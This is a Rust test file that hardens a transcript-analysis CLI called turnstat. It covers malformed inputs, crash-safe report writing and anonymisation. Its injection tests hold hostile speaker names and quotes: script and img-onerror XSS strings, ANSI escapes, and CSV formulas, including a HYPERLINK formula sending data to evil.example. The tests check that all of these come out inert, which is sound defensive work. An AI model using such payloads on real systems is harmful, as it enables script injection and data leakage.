//! Hardening: whatever coaches and CI jobs feed turnstat, it never crashes, never loses a
//! report and never leaks what it should not.
//!
//! - the malformed corpus (`fixtures/malformed/`, one snapshot of diagnostics per file) and
//!   cases generated at run time (a 10 MB line, directories named like transcripts, an
//!   unreadable file), alone and in a batch with valid files through the binary;
//! - `--out DIR` killed with SIGKILL at many points: every report file is complete;
//! - hostile speaker names and quotes (HTML, Markdown, CSV formulas, ANSI escapes,
//!   newlines) are inert in every output format;
//! - `--anonymize` leaves no real name anywhere, and a per-speaker report holds no one
//!   else's words.

use crate::util::{corpus, fixtures};
use assert_cmd::Command;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use turnstat::diag::Severity;
use turnstat::ingest::{self, IngestOptions};

#[path = "../bench/gen.rs"]
mod gen_corpus;

fn turnstat() -> Command {
    Command::new(assert_cmd::cargo::cargo_bin!("turnstat"))
}

fn bin() -> PathBuf {
    assert_cmd::cargo::cargo_bin!("turnstat").to_path_buf()
}

fn malformed() -> PathBuf {
    fixtures().join("malformed")
}

/// Every file of the malformed corpus (README excluded), sorted.
fn malformed_files() -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(malformed())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().is_some_and(|n| n != "README.md"))
        .collect();
    v.sort();
    v
}

/// Files under `p`, recursively, sorted.
fn walk(p: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(p).unwrap() {
        let path = e.unwrap().path();
        if path.is_dir() {
            v.extend(walk(&path));
        } else {
            v.push(path);
        }
    }
    v.sort();
    v
}

/// What `ingest::load` made of one input, as `file:line: severity: message` lines plus a
/// summary of what was kept.
fn describe_load(source: &str, bytes: &[u8]) -> String {
    let mut out = String::new();
    match ingest::load(source, bytes, &IngestOptions::default()) {
        Err(r) => {
            out.push_str("rejected\n");
            assert!(
                r.diagnostics.iter().any(|d| d.severity == Severity::Error),
                "{source}: rejected without an error"
            );
            for d in &r.diagnostics {
                out.push_str(&format!("{}\n", d.display_with(&r.source)));
            }
        }
        Ok(ts) => {
            out.push_str(&format!("accepted: {} transcript(s)\n", ts.len()));
            for t in &ts {
                for d in &t.diagnostics {
                    out.push_str(&format!("{}\n", d.display_with(&t.source)));
                }
                let timed = t.segments.iter().filter(|s| s.span.is_some()).count();
                out.push_str(&format!(
                    "{}: format {}, {} speaker(s), {} segment(s) ({} timed), {} turn(s), \
                     has_text {}, anonymous {}\n",
                    t.source,
                    t.format,
                    t.speakers.len(),
                    t.segments.len(),
                    timed,
                    t.turns.len(),
                    t.has_text,
                    t.anonymous_speakers
                ));
                for s in &t.speakers {
                    let shown: String = s.chars().take(60).collect();
                    let more = if s.chars().count() > 60 {
                        format!("… ({} chars)", s.chars().count())
                    } else {
                        String::new()
                    };
                    out.push_str(&format!("  speaker {shown:?}{more}\n"));
                }
            }
        }
    }
    out
}

// ---------------------------------------------------------------------------------------
// The malformed corpus

#[test]
fn malformed_corpus_has_a_readme_line_per_file() {
    let files = malformed_files();
    assert!(files.len() >= 100, "only {} malformed files", files.len());
    let readme = std::fs::read_to_string(malformed().join("README.md")).unwrap();
    for f in &files {
        let name = f.file_name().unwrap().to_string_lossy();
        let lines = readme
            .lines()
            .filter(|l| l.starts_with(&format!("- `{name}` ")))
            .count();
        assert_eq!(
            lines, 1,
            "README.md must describe `{name}` on exactly one line"
        );
    }
}

/// One snapshot per file: its diagnostics and what was kept. Never a panic.
#[test]
fn malformed_corpus_diagnostics() {
    insta::glob!(
        "../../fixtures/malformed",
        "*.{vtt,srt,sbv,rttm,txt,json}",
        |path| {
            let name = path.file_name().unwrap().to_string_lossy();
            let source = format!("fixtures/malformed/{name}");
            let bytes = std::fs::read(path).unwrap();
            insta::assert_snapshot!("malformed", describe_load(&source, &bytes));
        }
    );
}

/// `load_owned` (what the binary uses: no copy of the bytes, line ends normalised before
/// WebVTT parsing) gives exactly what `load` gives, on every malformed and valid fixture.
#[test]
fn owned_load_equals_borrowed_load() {
    let mut files = malformed_files();
    files.extend(walk(&fixtures()).into_iter().filter(|p| {
        !p.starts_with(malformed())
            && p.extension().is_some_and(|e| {
                ["vtt", "srt", "sbv", "rttm", "txt", "json"].contains(&&*e.to_string_lossy())
            })
    }));
    assert!(files.len() > 150, "{} files", files.len());
    for path in files {
        let bytes = std::fs::read(&path).unwrap();
        let source = path.display().to_string();
        let opts = IngestOptions::default();
        assert_eq!(
            ingest::load(&source, &bytes, &opts),
            ingest::load_owned(&source, bytes.clone(), &opts),
            "{source}"
        );
    }
}

/// A file of 10 MB without a line break, in the three text formats and as a JSON string:
/// read in bounded time (linear, not quadratic).
#[test]
fn ten_megabyte_single_line() {
    let words = "lorem ipsum dolor sit amet ".repeat(10 * 1024 * 1024 / 27);
    let cases = [
        (
            "vtt",
            format!(
                "WEBVTT\n\n00:00:00.000 --> 00:00:01.000\nAnn: Hello.\n\n\
                 00:00:01.000 --> 00:00:10.000\nAnn: {words}"
            ),
        ),
        ("txt", format!("Ann: Hello.\nAnn: {words}")),
        (
            "srt",
            format!("1\n00:00:00,000 --> 00:00:10,000\nAnn: {words}"),
        ),
        (
            "json",
            format!("{{\"segments\":[{{\"start\":0,\"end\":10,\"text\":\"{words}\"}}]}}"),
        ),
        ("noise", "x".repeat(10 * 1024 * 1024)),
    ];
    for (what, text) in &cases {
        let t = Instant::now();
        let r = ingest::load(what, text.as_bytes(), &IngestOptions::default());
        let took = t.elapsed();
        assert!(took < Duration::from_secs(30), "{what}: {took:?}");
        if *what != "noise" {
            let ts = r.unwrap_or_else(|e| panic!("{what}: {:?}", e.diagnostics));
            let longest = ts[0]
                .segments
                .iter()
                .map(|s| s.text.len())
                .max()
                .unwrap_or(0);
            assert!(longest > 10_000_000, "{what}: the long line was lost");
        }
    }
    // And through the binary, metrics and all.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("long-line.vtt");
    std::fs::write(&p, &cases[0].1).unwrap();
    let t = Instant::now();
    let out = turnstat()
        .args(["analyze", "-q", "-f", "json"])
        .arg(&p)
        .timeout(Duration::from_secs(300))
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["meetings"][0]["speakers"][0]["name"], "Ann");
    eprintln!("10 MB line through analyze: {:?}", t.elapsed());
}

/// Directories named like transcripts, and a file that cannot be read.
#[test]
fn directories_named_like_transcripts_and_unreadable_files() {
    let dir = tempfile::tempdir().unwrap();
    let batch = dir.path().join("batch");
    // `meeting.vtt/` is a directory holding a real transcript; `.vtt/` a hidden directory.
    std::fs::create_dir_all(batch.join("meeting.vtt")).unwrap();
    std::fs::copy(
        fixtures().join("dynamics/overlaps.vtt"),
        batch.join("meeting.vtt/inner.vtt"),
    )
    .unwrap();
    std::fs::create_dir_all(batch.join(".vtt")).unwrap();
    std::fs::write(batch.join(".vtt/hidden.vtt"), "WEBVTT\n").unwrap();
    // Named explicitly, a directory called `.vtt` is walked (it holds nothing readable).
    let empty_dot = dir.path().join(".vtt");
    std::fs::create_dir_all(&empty_dot).unwrap();
    let out = turnstat()
        .args(["turns", "-q", "-f", "json"])
        .arg(&batch)
        .arg(&empty_dot)
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    let sources: Vec<&str> = v["transcripts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["source"].as_str().unwrap())
        .collect();
    assert_eq!(sources.len(), 1, "{sources:?}");
    assert!(sources[0].ends_with("meeting.vtt/inner.vtt"), "{sources:?}");
    // Only the empty `.vtt` directory: nothing to read is a usage error.
    turnstat()
        .args(["turns", "-q"])
        .arg(&empty_dot)
        .assert()
        .code(2);

    // An unreadable file next to a readable one: rejected, the other still reported, exit 1.
    let locked = dir.path().join("locked.vtt");
    std::fs::copy(fixtures().join("dynamics/overlaps.vtt"), &locked).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read(&locked).is_ok() {
        eprintln!(
            "skipping the unreadable-file check: running as root, a mode-000 file is still readable"
        );
        return;
    }
    let out = turnstat()
        .args(["turns", "-q", "-f", "json"])
        .arg(&locked)
        .arg(fixtures().join("dynamics/serialised.vtt"))
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["transcripts"].as_array().unwrap().len(), 1);
    let err = &v["errors"][0];
    assert!(
        err["source"].as_str().unwrap().ends_with("locked.vtt"),
        "{err}"
    );
    assert!(
        err["message"].as_str().unwrap().contains("cannot read"),
        "{err}"
    );
}

/// The whole malformed corpus plus valid files in one run of each command: every valid file
/// is reported, every input is accounted for (a transcript or an error), exit code 1.
#[test]
fn malformed_batch_through_the_binary() {
    let valid: Vec<PathBuf> = [
        "podcast/podcast-namespace_example.vtt",
        "podcast/transcriptator_podnews_daily_2024-01-25.vtt",
        "podcast/podcast-namespace_example.srt",
        "zoom/acdc_2026-02-19_175.vtt",
        "ami/ES2005a.rttm",
        "stt-json/dg_utterances.json",
    ]
    .iter()
    .map(|p| fixtures().join(p))
    .collect();
    let inputs = malformed_files();
    // turns -f json: the directory (walked) and the valid files.
    let out = turnstat()
        .args(["turns", "-q", "-f", "json"])
        .arg(malformed())
        .args(&valid)
        .timeout(Duration::from_secs(300))
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    let accepted: BTreeSet<String> = v["transcripts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            t["source"]
                .as_str()
                .unwrap()
                .split('#')
                .next()
                .unwrap()
                .to_string()
        })
        .collect();
    let rejected: BTreeSet<String> = v["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["source"].as_str().unwrap().to_string())
        .collect();
    for p in &valid {
        assert!(
            accepted.contains(&p.display().to_string()),
            "{} missing",
            p.display()
        );
    }
    for p in &inputs {
        let s = p.display().to_string();
        assert!(
            accepted.contains(&s) ^ rejected.contains(&s),
            "{s}: must be exactly one of accepted or rejected"
        );
    }
    assert!(!rejected.is_empty());

    // analyze -f json (and --out): the same inputs, every accepted file has a meeting.
    let dir = tempfile::tempdir().unwrap();
    let out = turnstat()
        .args(["analyze", "-q", "-f", "json", "--out"])
        .arg(dir.path())
        .arg(malformed())
        .args(&valid)
        .timeout(Duration::from_secs(300))
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let r: Value = serde_json::from_slice(&out).unwrap();
    let meetings: BTreeSet<String> = r["meetings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            m["source"]
                .as_str()
                .unwrap()
                .split('#')
                .next()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(meetings, accepted);
    let errors: BTreeSet<String> = r["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["source"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(errors, rejected);
    for f in walk(dir.path()) {
        if f.extension().is_some_and(|e| e == "json") {
            serde_json::from_slice::<Value>(&std::fs::read(&f).unwrap()).unwrap();
        }
    }

    // report (team): the same, exit 1, valid JSON.
    let out = turnstat()
        .args(["report", "-q", "-f", "json"])
        .arg(malformed())
        .args(&valid)
        .timeout(Duration::from_secs(300))
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let t: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(t["schema"], "turnstat.team.v1");

    // --strict rejects every file with a warning; valid clean files still go through.
    let out = turnstat()
        .args(["turns", "-q", "--strict", "-f", "json"])
        .arg(malformed())
        .arg(fixtures().join("zoom/acdc_2026-02-19_175.vtt"))
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    serde_json::from_slice::<Value>(&out).unwrap();
}

// ---------------------------------------------------------------------------------------
// --out DIR under SIGKILL

/// Inode of a file, or 0 when it does not exist.
fn inode(p: &Path) -> u64 {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(p).map_or(0, |m| m.ino())
}

/// Every report file under `out` is byte-identical to the reference run's; returns the
/// number of report files and of leftover temporary files (`.turnstat-*.tmp`).
fn check_against_reference(out: &Path, reference: &BTreeMap<PathBuf, Vec<u8>>) -> (usize, usize) {
    let (mut reports, mut temps) = (0, 0);
    if !out.exists() {
        return (0, 0);
    }
    for f in walk(out) {
        let rel = f.strip_prefix(out).unwrap().to_path_buf();
        let name = f.file_name().unwrap().to_string_lossy().to_string();
        if name.starts_with(".turnstat-") && name.ends_with(".tmp") {
            temps += 1;
            continue;
        }
        let bytes = std::fs::read(&f).unwrap();
        let want = reference
            .get(&rel)
            .unwrap_or_else(|| panic!("{}: not a file of the complete run", rel.display()));
        assert!(
            bytes == *want,
            "{}: {} bytes, the complete run wrote {} (partial or damaged file)",
            rel.display(),
            bytes.len(),
            want.len()
        );
        if name.ends_with(".json") {
            serde_json::from_slice::<Value>(&bytes).unwrap();
        }
        reports += 1;
    }
    (reports, temps)
}

/// `analyze --out DIR` killed with SIGKILL before and while it writes: no partial report
/// file, ever, and earlier reports stay intact.
///
/// Design: 300 generated Zoom-style meetings; a reference run to completion; then runs into
/// one output directory, each killed after a fixed delay (100–300 ms, mostly during the
/// analysis) or a few milliseconds after the first report file of this run was renamed into
/// place (during the writing: `report.json` of the first meeting gets a new inode). After
/// every kill, each report file must be byte-identical to the reference (the input is the
/// same), JSON must parse. Temporary files (`.turnstat-*.tmp`, hidden, in the directory of
/// their target) of a killed process may remain: nothing can delete them on SIGKILL; they
/// are counted and reported, never mistaken for reports (hidden files are not read as
/// inputs, and every visible file is checked). A last run to completion must give exactly
/// the reference tree.
#[test]
fn out_dir_survives_sigkill() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    for i in 0..300u64 {
        std::fs::write(
            input.join(format!("team-sync-{i:03}.vtt")),
            gen_corpus::zoom(1_000 + i, 20 + i % 40),
        )
        .unwrap();
    }
    let run = |out: &Path| {
        std::process::Command::new(bin())
            .args(["analyze", "-q", "-f", "jsonl", "--out"])
            .arg(out)
            .arg(&input)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap()
    };
    let reference_dir = dir.path().join("reference");
    let t = Instant::now();
    let status = run(&reference_dir).wait().unwrap();
    let full = t.elapsed();
    assert!(status.success(), "{status:?}");
    let reference: BTreeMap<PathBuf, Vec<u8>> = walk(&reference_dir)
        .into_iter()
        .map(|f| {
            (
                f.strip_prefix(&reference_dir).unwrap().to_path_buf(),
                std::fs::read(&f).unwrap(),
            )
        })
        .collect();
    assert!(reference.len() >= 300 * 3, "{} files", reference.len());
    assert!(
        !reference
            .keys()
            .any(|p| p.to_string_lossy().contains(".turnstat-")),
        "a complete run leaves no temporary file"
    );
    let first_report = reference
        .keys()
        .find(|p| p.ends_with("report.json"))
        .unwrap()
        .clone();

    let out = dir.path().join("out");
    let mut killed_while_writing = 0;
    let mut last_temps = 0;
    let plans: Vec<(bool, u64)> = vec![
        (false, 100),
        (false, 200),
        (false, 300),
        (true, 0),
        (true, 3),
        (true, 15),
        (true, 60),
        (false, 150),
        (true, 1),
        (true, 30),
        (true, 400),
        (true, 1_500),
        (true, 4_000),
    ];
    eprintln!("complete run: {full:?}, {} files", reference.len());
    for (during_write, delay_ms) in plans {
        let watched = out.join(&first_report);
        let before = inode(&watched);
        let mut child = run(&out);
        let start = Instant::now();
        if during_write {
            // Wait until this run has renamed its first report into place.
            while inode(&watched) == before && child.try_wait().unwrap().is_none() {
                if start.elapsed() > full * 10 + Duration::from_secs(60) {
                    panic!("the run never wrote {}", watched.display());
                }
                std::thread::sleep(Duration::from_micros(200));
            }
        }
        std::thread::sleep(Duration::from_millis(delay_ms));
        let running = child.try_wait().unwrap().is_none();
        child.kill().unwrap();
        child.wait().unwrap();
        if running && inode(&watched) != before {
            killed_while_writing += 1;
        }
        let (reports, temps) = check_against_reference(&out, &reference);
        eprintln!(
            "kill {} +{delay_ms} ms (after {:?}, still running: {running}): {reports} complete report files, {temps} leftover temporary files",
            if during_write {
                "after the first write"
            } else {
                "after start"
            },
            start.elapsed(),
        );
        last_temps = temps;
    }
    assert!(
        killed_while_writing >= 3,
        "only {killed_while_writing} kills landed while reports were being written"
    );
    // A run to completion over the debris: exactly the reference files (plus the old temps).
    let status = run(&out).wait().unwrap();
    assert!(status.success());
    let (reports, temps) = check_against_reference(&out, &reference);
    assert_eq!(reports, reference.len());
    assert!(temps <= last_temps);
    eprintln!(
        "complete run over a killed one: {reports} report files, {temps} stale temporary files"
    );
}

// ---------------------------------------------------------------------------------------
// Injection

const HOSTILE_NAMES: &[&str] = &[
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
    "Pipe | Name",
    "\u{1b}[31mRed Alert\u{1b}[0m",
    "Line\nBreak",
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "**bold** _em_ [link](http://x) `code`",
];

const HOSTILE_QUOTE: &str = "<script>alert('quote')</script> | cell | =HYPERLINK(\"http://evil.example\") \u{1b}[2J\u{1b}[31m red\r\nnew line";

/// A Podcasting 2.0 JSON (names are free text there) with hostile names and quotes that
/// overlap, so they appear in interruption quotes too.
fn hostile_podcast() -> String {
    let segments: Vec<Value> = HOSTILE_NAMES
        .iter()
        .enumerate()
        .flat_map(|(i, n)| {
            let t = i as f64 * 6.0;
            [
                serde_json::json!({"speaker": n, "startTime": t, "endTime": t + 5.0,
                    "body": format!("{HOSTILE_QUOTE} we should ship the release today")}),
                serde_json::json!({"speaker": n, "startTime": t + 5.2, "endTime": t + 7.5,
                    "body": "=1+1 @here -5 +7 um you know, what do you think?"}),
            ]
        })
        .collect();
    serde_json::json!({"version": "1.0.0", "segments": segments}).to_string()
}

/// A WebVTT file whose cue text smuggles markup in through character references and voice
/// names with pipes and ANSI escapes.
fn hostile_vtt() -> String {
    let mut s = String::from("WEBVTT\n\n");
    let cues = [
        (
            "A|B",
            "&lt;script&gt;alert(2)&lt;/script&gt; | =HYPERLINK(\"x\") \u{1b}[31m red",
        ),
        (
            "\u{1b}[32mGreen",
            "+1 -1 @all | pipes | everywhere and more words here",
        ),
        (
            "A|B",
            "&lt;img src=x onerror=alert(3)&gt; okay so what about it?",
        ),
    ];
    for (i, (who, text)) in cues.iter().enumerate() {
        s.push_str(&format!(
            "00:00:{:02}.000 --> 00:00:{:02}.500\n<v {who}>{text}</v>\n\n",
            i * 4,
            i * 4 + 5
        ));
    }
    s
}

/// Terminal text (tables): no ESC byte, no control character but the line feed.
fn assert_inert_text(what: &str, s: &str) {
    assert!(!s.contains('\u{1b}'), "{what}: raw ESC byte");
    if let Some(c) = s.chars().find(|&c| c.is_control() && c != '\n') {
        panic!("{what}: raw control character {c:?}");
    }
}

/// Markup (Markdown, HTML): also no live `<script>` or `<img>` from the input.
fn assert_no_live_markup(what: &str, s: &str) {
    assert!(!s.contains("<script>alert"), "{what}: raw <script>");
    assert!(!s.contains("<img src=x"), "{what}: raw <img>");
}

fn assert_inert_markdown(what: &str, s: &str) {
    assert_inert_text(what, s);
    assert_no_live_markup(what, s);
    assert!(
        s.contains("&lt;script"),
        "{what}: `<script` not escaped as `&lt;script`"
    );
    assert!(s.contains("\\|"), "{what}: no escaped `\\|`");
}

fn assert_inert_csv(what: &str, s: &str) {
    assert!(!s.contains('\u{1b}'), "{what}: raw ESC byte");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(s.as_bytes());
    let mut cells = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            if cell.parse::<f64>().is_ok() {
                continue;
            }
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: cell {cell:?} can run as a formula"
            );
        }
    }
    assert!(cells > 0, "{what}: empty CSV");
}

fn assert_inert_json(what: &str, s: &str) {
    assert!(!s.contains('\u{1b}'), "{what}: raw ESC byte");
    serde_json::from_str::<Value>(s).unwrap_or_else(|e| panic!("{what}: {e}"));
}

/// Every output format of every command, and every file of `--out`, with hostile names and
/// quotes: JSON escapes them (and round-trips the exact name), Markdown escapes `<`, `|` and
/// drops control characters, CSV prefixes formula cells with `'`, tables carry no ESC byte.
#[test]
fn hostile_names_and_quotes_are_inert_everywhere() {
    let dir = tempfile::tempdir().unwrap();
    let podcast = dir.path().join("hostile.json");
    std::fs::write(&podcast, hostile_podcast()).unwrap();
    let vtt = dir.path().join("hostile.vtt");
    std::fs::write(&vtt, hostile_vtt()).unwrap();
    let inputs = [&podcast, &vtt];
    let stdout = |args: &[&str], out: Option<&Path>| -> String {
        let mut c = turnstat();
        c.args(args).arg("-q");
        if let Some(o) = out {
            c.arg("--out").arg(o);
        }
        let o = c.args(inputs).assert().code(0).get_output().stdout.clone();
        String::from_utf8(o).unwrap()
    };

    // JSON: the exact hostile names come back after parsing.
    let json = stdout(&["analyze", "-f", "json"], None);
    assert_inert_json("analyze json", &json);
    let v: Value = serde_json::from_str(&json).unwrap();
    let names: BTreeSet<&str> = v["meetings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|m| {
            m["speakers"]
                .as_array()
                .unwrap()
                .iter()
                .map(|s| s["name"].as_str().unwrap())
        })
        .collect();
    for n in HOSTILE_NAMES {
        let cleaned = turnstat::speakers::clean_name(n);
        assert!(
            names.contains(cleaned.as_str()),
            "{cleaned:?} not in {names:?}"
        );
    }
    for line in stdout(&["analyze", "-f", "jsonl"], None).lines() {
        assert_inert_json("analyze jsonl", line);
    }
    assert_inert_json("turns json", &stdout(&["turns", "-f", "json"], None));
    assert_inert_json("report json", &stdout(&["report", "-f", "json"], None));

    assert_inert_markdown("analyze md", &stdout(&["analyze", "-f", "md"], None));
    assert_inert_markdown("report md", &stdout(&["report", "-f", "md"], None));

    assert_inert_csv("analyze csv", &stdout(&["analyze", "-f", "csv"], None));
    assert_inert_csv("turns csv", &stdout(&["turns", "-f", "csv"], None));

    for cmd in ["analyze", "report"] {
        let html = stdout(&[cmd, "-f", "html"], None);
        assert!(!html.contains('\u{1b}'), "{cmd} html: raw ESC byte");
        assert_no_live_markup(&format!("{cmd} html"), &html);
        assert!(
            html.contains("&lt;script"),
            "{cmd} html: `<script` not escaped"
        );
    }

    assert_inert_text("analyze table", &stdout(&["analyze", "-f", "table"], None));
    assert_inert_text("turns table", &stdout(&["turns", "-f", "table"], None));
    assert_inert_text("report table", &stdout(&["report", "-f", "table"], None));

    // Every file under --out, for analyze and report.
    for cmd in ["analyze", "report"] {
        let out = dir.path().join(format!("out-{cmd}"));
        stdout(&[cmd, "-f", "json"], Some(&out));
        let files = walk(&out);
        assert!(!files.is_empty());
        for f in files {
            let text = std::fs::read_to_string(&f).unwrap();
            let what = f.display().to_string();
            match f.extension().and_then(|e| e.to_str()) {
                Some("json") => assert_inert_json(&what, &text),
                Some("md") => {
                    assert_inert_text(&what, &text);
                    assert_no_live_markup(&what, &text);
                }
                Some("csv") => assert_inert_csv(&what, &text),
                _ => {
                    assert!(!text.contains('\u{1b}'), "{what}: raw ESC byte");
                    assert_no_live_markup(&what, &text);
                }
            }
        }
        // The meeting summaries and the hostile speakers' own reports quote the hostile text.
        let summaries: Vec<PathBuf> = walk(&out)
            .into_iter()
            .filter(|f| f.file_name().is_some_and(|n| n == "summary.md"))
            .collect();
        assert!(!summaries.is_empty(), "{cmd}: no summary.md");
        for s in summaries {
            assert_inert_markdown(
                &s.display().to_string(),
                &std::fs::read_to_string(&s).unwrap(),
            );
        }
    }
    // The error stream too (diagnostics quote file content).
    let bad = dir.path().join("bad.vtt");
    std::fs::write(&bad, "WEBVTT\n\n\u{1b}[31m --> \u{1b}[0m\nx\n").unwrap();
    let err = turnstat()
        .args(["turns", "--color", "never"])
        .arg(&bad)
        .output()
        .unwrap()
        .stderr;
    assert!(
        !String::from_utf8_lossy(&err).contains('\u{1b}'),
        "stderr: raw ESC"
    );
}

// ---------------------------------------------------------------------------------------
// Privacy

/// The real (non-label) speaker names of the inputs, as turnstat reads them.
fn real_names(inputs: &[PathBuf]) -> BTreeSet<String> {
    let out = turnstat()
        .args(["turns", "-q", "-f", "json"])
        .args(inputs)
        .output()
        .unwrap()
        .stdout;
    let v: Value = serde_json::from_slice(&out).unwrap();
    v["transcripts"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|t| {
            t["speakers"]
                .as_array()
                .unwrap()
                .iter()
                .map(|s| s.as_str().unwrap().to_string())
        })
        .filter(|n| !turnstat::speakers::is_label(n))
        .collect()
}

/// Whole names and every part of 4+ characters, lower-cased.
fn name_needles(names: &BTreeSet<String>) -> Vec<(String, String)> {
    let mut v = Vec::new();
    for n in names {
        for part in std::iter::once(n.as_str()).chain(n.split(|c: char| !c.is_alphanumeric())) {
            if part.chars().count() >= 4 {
                v.push((part.to_lowercase(), n.clone()));
            }
        }
    }
    v
}

fn assert_no_names(what: &str, text: &str, needles: &[(String, String)]) {
    // As whole words: how names are found (a chat's "besusaurus" is not the name "Besu").
    for (part, name) in needles {
        assert!(
            !crate::util::contains_word(text, part),
            "{what} contains `{part}` of `{name}`"
        );
    }
}

/// A Rev.ai export with real speaker names that also address each other by name.
fn named_revai() -> String {
    let words = |speaker: u32, name: &str, t0: f64, text: &str| {
        let elements: Vec<Value> = text
            .split(' ')
            .enumerate()
            .flat_map(|(i, w)| {
                let t = t0 + i as f64 * 0.4;
                [
                    serde_json::json!({"type": "text", "value": w, "ts": t, "end_ts": t + 0.35}),
                    serde_json::json!({"type": "punct", "value": " "}),
                ]
            })
            .collect();
        serde_json::json!({"speaker": speaker, "speaker_name": name, "elements": elements})
    };
    serde_json::json!({"monologues": [
        words(0, "Priya Raman", 0.0, "Thanks for joining Tomasz, I wanted to review the launch plan with Wójcik's team today."),
        words(1, "Tomasz Wójcik", 6.0, "Sure Priya, Raman said the budget is fine but we need two more weeks."),
        words(0, "Priya Raman", 12.0, "Okay Tomasz, then let's tell Okonkwo and the others on Friday."),
        words(2, "Adaeze Okonkwo", 17.0, "I heard my name. Priya, Tomasz, I agree with the plan."),
    ]})
    .to_string()
}

/// `--anonymize`: no real name (nor a part of 4+ letters) in any output of `analyze` (every
/// format and every `--out` file) or of the team report, for an AMI meeting, a speech-to-text
/// JSON with named speakers, a Podcasting 2.0 JSON and the Zoom call (plus the corpus's
/// podcast and Zoom files when present).
#[test]
fn anonymize_leaves_no_real_name_in_any_output() {
    let dir = tempfile::tempdir().unwrap();
    let revai = dir.path().join("launch-review.json");
    std::fs::write(&revai, named_revai()).unwrap();
    let mut inputs = vec![
        fixtures().join("ami/ES2005a.vtt"),
        revai,
        fixtures().join("podcast/podcast-namespace_example.json"),
        fixtures().join("zoom/acdc_2026-02-19_175.vtt"),
    ];
    if let Some(c) = corpus() {
        inputs.push(c.join("podcast/transcriptator_podnews_weekly_review_2023-05-05.json"));
        inputs.push(c.join("podcast/transcriptator_buzzcast.srt"));
        inputs.push(c.join("zoom-ethereum-acd/acdc_2026-02-05_174.vtt"));
    }
    let names = real_names(&inputs);
    for n in [
        "MEE017 (PM)",
        "Priya Raman",
        "Tomasz Wójcik",
        "Adaeze Okonkwo",
        "Darth Vader",
    ] {
        assert!(names.contains(n), "{n} not among {names:?}");
    }
    let needles = name_needles(&names);
    let mut outputs: Vec<(String, String)> = Vec::new();
    for f in ["table", "json", "jsonl", "csv", "md", "html"] {
        let out = dir.path().join(format!("analyze-{f}"));
        let o = turnstat()
            .args(["analyze", "-q", "--anonymize", "-f", f, "--out"])
            .arg(&out)
            .args(&inputs)
            .assert()
            .code(0)
            .get_output()
            .stdout
            .clone();
        outputs.push((format!("analyze -f {f}"), String::from_utf8(o).unwrap()));
    }
    for f in ["table", "json", "md", "html"] {
        let out = dir.path().join(format!("report-{f}"));
        let o = turnstat()
            .args([
                "report",
                "-q",
                "--anonymize",
                "--by",
                "month",
                "-f",
                f,
                "--out",
            ])
            .arg(&out)
            .args(&inputs)
            .assert()
            .code(0)
            .get_output()
            .stdout
            .clone();
        outputs.push((format!("report -f {f}"), String::from_utf8(o).unwrap()));
    }
    let mut files = 0;
    for p in walk(dir.path()) {
        if p.extension().is_some_and(|e| e == "json") && p.parent() == Some(dir.path()) {
            continue; // the input
        }
        files += 1;
        outputs.push((
            p.display().to_string(),
            std::fs::read_to_string(&p).unwrap(),
        ));
    }
    assert!(files > 20, "{files} output files");
    for (what, text) in &outputs {
        // File names are not changed (README, Privacy): strip the input paths first.
        // "VADER" is the sentiment model's name, not Darth Vader.
        let mut text = text.replace("VADER", "sentiment model");
        for i in &inputs {
            text = text.replace(&i.display().to_string(), "<input>");
        }
        assert_no_names(what, &text, &needles);
    }
}

/// Every `speakers/*.md` under `--out` holds no other speaker's words: no segment of 4+ words
/// of anyone else (raw or Markdown-escaped), unless the reader said the same words too.
#[test]
fn speaker_reports_hold_only_their_own_words() {
    let dir = tempfile::tempdir().unwrap();
    let revai = dir.path().join("launch-review.json");
    std::fs::write(&revai, named_revai()).unwrap();
    let mut inputs = vec![
        fixtures().join("ami/ES2005a.vtt"),
        fixtures().join("zoom/acdc_2026-02-19_175.vtt"),
        fixtures().join("dynamics/overlaps.vtt"),
        fixtures().join("dynamics/serialised.vtt"),
        fixtures().join("podcast/podcast-namespace_example.json"),
        fixtures().join("stt-json/dg_utterances.json"),
        revai,
    ];
    if let Some(c) = corpus() {
        inputs.push(c.join("ami-vtt/ES2002a.vtt"));
        inputs.push(c.join("podcast/transcriptator_buzzcast.json"));
    }
    let out = dir.path().join("out");
